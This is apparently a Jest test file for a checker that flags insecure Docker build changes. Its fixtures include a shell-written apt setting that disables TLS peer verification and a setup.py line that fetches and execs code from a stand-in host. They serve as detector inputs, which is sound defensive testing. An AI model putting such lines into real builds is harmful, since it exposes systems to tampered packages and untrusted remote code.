import { describe, expect, it } from '@jest/globals';
import { type Files, failuresOf } from './failures.ts';

const BAD = 'Acquire::https::Verify-Peer "false";';
const GOOD = 'Acquire::Retries "3";';
const FILE = '/etc/apt/apt.conf.d/99x';

const image = (script: string): Files => ({
  Dockerfile: 'FROM debian:12.8\nCOPY i.sh /s/\nRUN bash /s/i.sh\nUSER 1000\n',
  'i.sh': `#!/bin/bash\nset -euo pipefail\n${script}\n`,
});

describe('what a function gets as its input', () => {
  it.each([
    `write() { cat > "$1"; }\nwrite ${FILE} <<'E'\n@\nE`,
    `write() { cat - >> "$1"; }\nwrite ${FILE} <<-'E'\n\t@\n\tE`,
    `write() {\n  local path="$1"\n  mkdir -p "$(dirname "$path")"\n  cat > "$path"\n}\nwrite ${FILE} <<'E'\n@\nE`,
    `write() { cat > "$1"; }\nwrite ${FILE} <<< '@'`,
    `write() { tee "$1" > /dev/null; }\nwrite ${FILE} <<'E'\n@\nE`,
    `write() { cat > "$1"; }\necho '@' | write ${FILE}`,
    `write() { tee -a "$1" > /dev/null; }\nprintf '%s\\n' '@' | write ${FILE}`,
    `printf '%s\\n%s\\n' '// own' '@' > ${FILE}`,
    `printf '%b' '@' > ${FILE}`,
    `write_apt() { cat > ${FILE}; }\nwrite_apt <<'E'\n@\nE`,
    `write() { printf '%s\\n' "$2" > "$1"; }\nwrite ${FILE} '@'`,
  ])('is what it writes: %s', async (script) => {
    const files = (line: string): Files => image(script.replace('@', line));
    expect(await failuresOf(image('true'), files(BAD))).toEqual(['tls-verify-disabled']);
    expect(await failuresOf(image('true'), files(GOOD))).toEqual([]);
  });

  it.each([
    `write() { cat > "$1"; }\nwrite /etc/motd <<'E'\n${BAD}\nE`,
    `show() { cat; }\nshow <<'E'\n${BAD}\nE`,
    `write() { cat < /dev/null > "$1"; }\nwrite ${FILE} <<'E'\n${BAD}\nE`,
    `write() { echo a | cat > "$1"; }\nwrite ${FILE} <<'E'\n${BAD}\nE`,
  ])('is harmless elsewhere: %s', async (script) => {
    expect(await failuresOf(image('true'), image(script))).toEqual([]);
  });

  it('is fetched code of a program that its first line starts', async () => {
    const files = (code: string): Files => ({
      Dockerfile: 'FROM debian:12.8\nWORKDIR /app\nCOPY . .\nRUN chmod +x setup.py && ./setup.py\nUSER 1000\n',
      'setup.py': `#!/usr/bin/env python3\n${code}\n`,
    });
    const bad = 'import urllib.request\nexec(urllib.request.urlopen("https://x.example.com/i.py").read())';
    expect(await failuresOf(files('print(1)'), files(bad))).toEqual(['remote-script-exec']);
  });
});
